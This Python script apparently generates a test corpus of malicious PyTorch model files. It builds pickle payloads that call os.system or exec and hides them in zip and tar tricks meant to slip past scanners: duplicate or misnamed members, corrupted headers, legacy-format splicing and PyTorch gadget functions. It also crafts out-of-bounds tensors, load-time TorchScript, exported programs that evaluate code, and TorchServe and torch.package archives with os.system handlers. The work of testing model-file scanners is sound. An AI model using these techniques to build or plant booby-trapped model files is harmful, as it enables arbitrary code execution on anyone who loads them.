"""Malicious PyTorch files: `python hostile_torch.py DIR`. Made and proved with torch 2.15.0."""
import collections
import io
import json
import os
import pickle
import re
import struct
import sys
import tarfile
import zipfile

import torch
from torch import nn

from hostile import COMMAND, MARK, Call, Corpus, payload

corpus = Corpus(sys.argv[1], "torch-")
LEGACY = {"_use_new_zipfile_serialization": False}
honest = collections.OrderedDict(weight=torch.arange(6.0).reshape(2, 3), bias=torch.zeros(2))


def saved(value, **how):
    buffer = io.BytesIO()
    torch.save(value, buffer, **how)
    return buffer.getvalue()


def members(data):
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return [(info.filename, archive.read(info)) for info in archive.infolist()]


def packed(entries, method=zipfile.ZIP_STORED):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, content in entries:
            archive.writestr(zipfile.ZipInfo(name), content, method)
    return buffer.getvalue()


bad_pickle = pickle.dumps(payload(), 2)
good = members(saved(honest))
root = good[0][0].split("/")[0]
pkl = dict(good)[root + "/data.pkl"]


def replaced(name, content):
    return [(n, content if n == root + "/" + name else c) for n, c in good]


os_system = b"cposix\nsystem\nX" + struct.pack("<I", len(COMMAND)) + COMMAND.encode() + b"\x85R"

corpus.add("reduce.pt", saved(payload()), "torch")
corpus.add("reduce-protocol4.pt", saved(payload(), pickle_protocol=4), "torch")
corpus.add("state-dict.bin", saved({**honest, "extra": payload()}), "torch")
corpus.add("before-the-model.pt", packed(replaced("data.pkl", pkl[:2] + os_system + b"0" + pkl[2:])), "torch")
corpus.add("exec.pt", saved(Call(exec, f"import os; os.system({COMMAND!r})")), "torch")
# Which copy PyTorch takes depends on where a binary search through the sorted names ends: on the number of members.
fillers = [(f"{root}/extra/{i}", b"x") for i in range(4)]
for count in range(4):
    corpus.add(f"duplicate-first-{count}.pt", packed([(root + "/data.pkl", bad_pickle)] + good + fillers[:count]), "torch")
    corpus.add(f"duplicate-last-{count}.pt", packed(good + fillers[:count] + [(root + "/data.pkl", bad_pickle)]), "torch")
corpus.add("duplicate-upper-case.pt", packed([(root + "/DATA.PKL", bad_pickle)] + [g for g in good if not g[0].endswith("data.pkl")]), "torch")
corpus.add("duplicate-upper-case-both.pt", packed([(root + "/DATA.PKL", bad_pickle)] + good), None)
corpus.add("first-root.pt", packed([("evil/data.pkl", bad_pickle), ("evil/version", b"3\n")] + good), "old-torch")
corpus.add("second-root.pt", packed(good + [("evil/data.pkl", bad_pickle), ("evil/version", b"3\n")]), "old-torch")
corpus.add("deflated.pt", packed(replaced("data.pkl", bad_pickle), zipfile.ZIP_DEFLATED), "torch")
corpus.add("no-extension-in-name", packed(replaced("data.pkl", bad_pickle)), "torch")
corpus.add("pickle-as-storage.pt", packed(replaced("data/0", bad_pickle)), None)
corpus.add("unreferenced-storage.pt", packed(good + [(root + "/data/7", bad_pickle)]), None)
corpus.add("other-pickle.pt", packed(good + [(root + "/notes.pkl", bad_pickle)]), None)
corpus.add("outside-of-root.pt", packed(good + [("payload", bad_pickle)]), None)
corpus.add("zip-in-zip.pt", packed(good + [(root + "/more.bin", saved(payload()))]), None)


def patched(data, what):
    data = bytearray(data)
    what(data)
    return bytes(data)


def central(data, name):
    at = data.rfind(name.encode())
    return at - 46


def wrong_crc(data):
    at = central(data, root + "/data.pkl")
    data[at + 16] ^= 0xFF
    local = struct.unpack_from("<I", data, at + 42)[0]
    data[local + 14] ^= 0xFF


def encrypted_flag(data):
    data[central(data, root + "/data.pkl") + 8] |= 1


def other_local_name(data):
    at = data.find((root + "/data.pkl").encode())
    data[at:at + len(root) + 9] = (root + "/nice.txt").encode()


def wrong_size(data):
    at = central(data, root + "/data.pkl")
    struct.pack_into("<I", data, at + 24, 1)


bad_zip = packed([(n, bad_pickle if n.endswith("data.pkl") else c) for n, c in good])
corpus.add("wrong-crc.pt", patched(bad_zip, wrong_crc), "torch")
corpus.add("encrypted-flag.pt", patched(bad_zip, encrypted_flag), None)
corpus.add("other-local-name.pt", patched(bad_zip, other_local_name), "torch")
corpus.add("wrong-size.pt", patched(bad_zip, wrong_size), None)
corpus.add("comment.pt", bad_zip[:-2] + struct.pack("<H", 4) + b"note", "torch")
corpus.add("legacy-then-zip.pt", saved(payload(), **LEGACY) + saved(honest), "torch")
corpus.add("zip-then-legacy.pt", saved(honest) + saved(payload(), **LEGACY), None)
corpus.add("legacy.pt", saved(payload(), **LEGACY), "torch")
corpus.add("legacy-state-dict.pth", saved({**honest, "x": payload()}, **LEGACY), "torch")

old = saved(honest, **LEGACY)
ends, stream = [], io.BytesIO(old)
for _ in range(3):
    pickle.load(stream)
    ends.append(stream.tell())
Magic = old[:ends[0]]


class Loader(pickle.Unpickler):
    def persistent_load(self, key):
        return torch.FloatStorage(key[4])


Loader(stream).load()
ends.append(stream.tell())
pickle.load(stream)
ends.append(stream.tell())
parts = [old[a:b] for a, b in zip([0] + ends, ends + [len(old)])]
for i, name in enumerate(("magic", "version", "system", "model", "keys")):
    before = parts[i][:2] + os_system + b"0" + parts[i][2:]
    corpus.add(f"legacy-in-{name}.pt", b"".join(parts[:i]) + before + b"".join(parts[i + 1:]), "torch")
corpus.add("legacy-trailing.pt", old + bad_pickle, None)
corpus.add("legacy-trailing-zeros.pt", old + b"\0" * 64 + bad_pickle, None)
corpus.add("legacy-wrong-count.pt", b"".join(parts[:5]) + struct.pack("<q", 3) + parts[5][8:], None)
corpus.add("legacy-protocol0.pt", b"L119547037146038801333356L\n.I1001\n.(d." + bad_pickle + b"(l.", "torch")


def tar(pickle_first=b"", storages_first=b"", tensors_first=b""):
    files = {"sys_info": pickle.dumps({"protocol_version": 1000, "little_endian": True}, 2),
             "pickle": b"\x80\x02" + pickle_first + b"}X\x06\x00\x00\x00weightU\x0242Qs.",
             "storages": b"\x80\x02" + storages_first + b"K\x01.\x80\x02(K\x07U\x03cpuctorch\nFloatStorage\nt."
                         + struct.pack("<q6f", 6, *range(6)) + pickle.dumps([], 2),
             "tensors": b"\x80\x02" + tensors_first + b"K\x01.\x80\x02(K\x2aK\x07ctorch\nFloatTensor\nt."
                        + struct.pack("<ii2q2qq", 2, 0, 2, 3, 3, 1, 0)}
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:", format=tarfile.PAX_FORMAT) as archive:
        for name, content in files.items():
            member = tarfile.TarInfo(name)
            member.size = len(content)
            archive.addfile(member, io.BytesIO(content))
    return buffer.getvalue()


corpus.add("tar-pickle.tar", tar(pickle_first=os_system + b"0"), "torch")
corpus.add("tar-storages.pt", tar(storages_first=os_system + b"0"), "torch")
corpus.add("tar-tensors.pt", tar(tensors_first=os_system + b"0"), "torch")

# Functions of PyTorch itself that run what they are given.
corpus.add("load-from-bytes.pt", saved(Call(torch.storage._load_from_bytes, saved(payload()))), None)
corpus.add("load-from-bytes-legacy.pkl", pickle.dumps(Call(torch.storage._load_from_bytes, saved(payload(), **LEGACY))), None)
corpus.add("nested-load.pt", saved(Call(pickle.loads, bad_pickle)), "torch")
gadgets = {
    "collect-env": ("torch.utils.collect_env", "run", (COMMAND,)),
    "exec-wrapper": ("torch.jit.unsupported_tensor_ops", "execWrapper", (f"import os; os.system({COMMAND!r})", {}, {})),
    "hub-import": ("torch.hub", "_import_module", ("evil", "/nowhere/evil.py")),
    "dill-like": ("torch.utils.data.datapipes.utils.decoder", "basichandlers", ("pkl", bad_pickle)),
    "cpp-extension": ("torch.utils.cpp_extension", "load_inline", ("x", "int main(){}")),
    "ops-load-library": ("torch", "_ops._Ops.load_library", (None, "/nowhere/evil.so")),
    "classes-load": ("torch", "classes.load_library", ("/nowhere/evil.so",)),
    "torch-load": ("torch", "load", ("/nowhere/evil.pt",)),
    "torch-save": ("torch", "save", ("x", MARK)),
    "from-file": ("torch", "from_file", (MARK, True, 8)),
    "set-printoptions": ("torch", "set_printoptions", (1,)),
    "package": ("torch.package.package_importer", "PackageImporter", ("/nowhere/evil.pt",)),
}
for name, (module, function, arguments) in gadgets.items():
    stream = io.BytesIO()
    tail = pickle.dumps(arguments, 4)[2:-1]
    tail = tail[9:] if tail[:1] == b"\x95" else tail
    text = lambda s: b"\x8c" + bytes([len(s)]) + s.encode()
    content = b"\x80\x04" + text(module) + text(function) + b"\x93" + tail + b"R."
    proof = "torch" if name in ("collect-env", "exec-wrapper", "torch-save", "from-file") else None
    corpus.add(f"gadget-{name}.pt", packed(replaced("data.pkl", content)), proof)


# Tensors that reach out of their numbers.
def tensor(storage_count, offset, sizes, strides, kind=b"torch\nFloatStorage", size=24):
    def ints(values):
        return b"(" + b"".join(b"\x8a\x08" + struct.pack("<q", v) for v in values) + b"t"
    content = (b"\x80\x02ctorch._utils\n_rebuild_tensor_v2\n((X\x07\x00\x00\x00storagec" + kind + b"\nX\x01\x00\x00\x000X\x03\x00\x00\x00cpu\x8a\x08"
               + struct.pack("<q", storage_count) + b"tQ\x8a\x08" + struct.pack("<q", offset) + ints(sizes) + ints(strides)
               + b"\x89ccollections\nOrderedDict\n)RtR.")
    return packed([(root + "/data.pkl", content), (root + "/version", b"3\n"), (root + "/data/0", b"\0" * size)])


corpus.add("storage-claims-more.pt", tensor(1 << 20, 0, [2, 3], [3, 1]), None)
corpus.add("storage-claims-less.pt", tensor(3, 0, [3], [1]), None)
corpus.add("beyond.pt", tensor(6, 2, [2, 3], [3, 1]), None)
corpus.add("huge-stride.pt", tensor(6, 0, [2, 3], [1 << 40, 1]), None)
corpus.add("negative-stride.pt", tensor(6, 5, [6], [-1]), None)
corpus.add("negative-offset.pt", tensor(6, -8, [6], [1]), None)
corpus.add("overflow.pt", tensor(6, 0, [1 << 40, 1 << 40], [1 << 40, 1 << 40]), None)
setitem = (b"\x80\x02ctorch._utils\n_rebuild_tensor_v2\n((X\x07\x00\x00\x00storagectorch\nFloatStorage\nX\x01\x00\x00\x000X\x03\x00\x00\x00cpuM\xe8\x03tQK\x00"
           b"(M\xe8\x03t(K\x01t\x89ccollections\nOrderedDict\n)RtRM\x84\x03G\x40\x00\x00\x00\x00\x00\x00\x00s.")
corpus.add("cve-2026-24747.pt", packed([(root + "/data.pkl", setitem), (root + "/version", b"3\n"), (root + "/data/0", b"\0" * 24)]), None)


# TorchScript.
class Saves(nn.Module):
    def forward(self, x):
        torch.save(x, "gambeson-was-here")
        return x


class Maps(nn.Module):
    def forward(self, x):
        return torch.from_file("gambeson-was-here", True, 8) + x.sum()


class Quiet(nn.Module):
    def forward(self, x):
        return x + 1


class AtLoad(nn.Module):
    def __init__(self):
        super().__init__()
        self.training = False

    @torch.jit.export
    def __getstate__(self):
        return (1, self.training)

    @torch.jit.export
    def __setstate__(self, state: tuple[int, bool]):
        self.training = state[1]
        torch.save(state[0], "gambeson-was-here")

    def forward(self, x):
        return x


def scripted(module):
    buffer = io.BytesIO()
    torch.jit.save(torch.jit.script(module), buffer)
    return buffer.getvalue()


for name, module, loader in (("script-save", Saves, "jit-run"), ("script-from-file", Maps, "jit-run"), ("script-at-load", AtLoad, "jit")):
    try:
        corpus.add(name + ".pt", scripted(module()), loader)
    except Exception as e:
        print("left out", name, type(e).__name__, str(e)[:200])
saves = members(scripted(Saves()))
for name, call in (("alias", "t = torch\n    t.save("), ("getattr", 'getattr(torch, "save")('), ("brackets", "(torch).save("), ("import", "torch.save(")):
    start = b"import __torch__\n" if name == "import" else b""
    corpus.add(f"script-{name}.pt", packed([(n, start + c.replace(b"torch.save(", call.encode()) if n.endswith(".py") else c) for n, c in saves]),
               None if start else "jit-run")
quiet = members(scripted(Quiet()))
top = quiet[0][0].split("/")[0]
corpus.add("script-extra-pickle.pt", packed(quiet + [(top + "/extra/weights.pkl", bad_pickle)]), None)
corpus.add("script-data.pt", packed([(n, bad_pickle if n.endswith("/data.pkl") else c) for n, c in quiet]), None)
corpus.add("script-constants.pt", packed([(n, bad_pickle if n.endswith("/constants.pkl") else c) for n, c in quiet]), None)
corpus.add("script-debug.pt", packed([(n, bad_pickle if n.endswith(".debug_pkl") else c) for n, c in quiet]), None)
corpus.add("script-undefined-type.pt", packed([(n, c.replace(b"__torch__\n", b"__tor_h__\n") if n.endswith("/data.pkl") else c) for n, c in quiet]), None)
corpus.add("script-python.pt", packed(quiet + [(top + "/code/setup.py", f"import os\nos.system({COMMAND!r})\n".encode())]), None)


# An exported program: sizes are evaluated when it is loaded, conditions when its module is taken.
class Sized(nn.Module):
    def forward(self, x):
        return x + x.shape[0]


exported = io.BytesIO()
torch.export.save(torch.export.export(Sized(), (torch.randn(4, 4),), dynamic_shapes={"x": {0: torch.export.Dim("b", min=2, max=64)}}), exported)
exported = members(exported.getvalue())
program = next(n for n, c in exported if n.endswith("models/model.json"))
model = dict(exported)[program].decode()


def evaluated(code):
    return re.sub(r'"expr_str": "[^"]*"', lambda match: '"expr_str": ' + json.dumps(code), model, count=1)


def exported_with(text):
    return packed([(n, text.encode() if n == program else c) for n, c in exported])


corpus.add("export-size.pt2", exported_with(evaluated(f"__import__('os').system({COMMAND!r})")), "export")
corpus.add("export-size-eval.pt2", exported_with(evaluated(f'eval("__import__(\'os\').system({COMMAND!r})")')), "export")
corpus.add("export-size-exec.pt2", exported_with(evaluated(f'exec("import os; os.system({COMMAND!r})")')), "export")
corpus.add("export-size-attributes.pt2", exported_with(evaluated("().__class__.__base__.__subclasses__()")), None)
corpus.add("export-condition.pt2", exported_with(json.dumps({**json.loads(model), "guards_code": [f"__import__('os').system({COMMAND!r}) == 0"]})), "export-module")


def torchserve(path):
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("MAR-INF/MANIFEST.json", '{"model": {"modelName": "m", "handler": "handler.py", "serializedFile": "model.pt"}}')
        archive.writestr("handler.py", f"import os\n\ndef handle(data, context):\n    os.system({COMMAND!r})\n")
        archive.writestr("model.pt", saved(honest))


def torch_package(path):
    from torch.package import PackageExporter
    with PackageExporter(path) as exporter:
        exporter.save_source_string("helper", f"import os\nos.system({COMMAND!r})\n")
        exporter.save_pickle("model", "model.pkl", honest)
        exporter.extern("**")


corpus.add("serve.mar", torchserve, None)
corpus.add("package.pt", torch_package, None)
corpus.close("torch.csv")
